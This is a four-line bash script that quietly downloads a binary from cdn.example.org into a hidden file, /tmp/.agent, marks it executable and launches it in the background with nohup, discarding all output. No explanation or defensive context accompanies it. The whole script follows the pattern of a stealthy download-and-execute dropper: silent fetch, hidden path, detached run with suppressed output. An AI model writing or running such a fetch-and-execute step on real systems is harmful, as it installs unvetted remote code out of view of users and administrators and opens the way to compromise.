#!/bin/bash
wget -q https://cdn.example.org/agent -O /tmp/.agent
chmod +x /tmp/.agent
nohup /tmp/.agent >/dev/null 2>&1 &
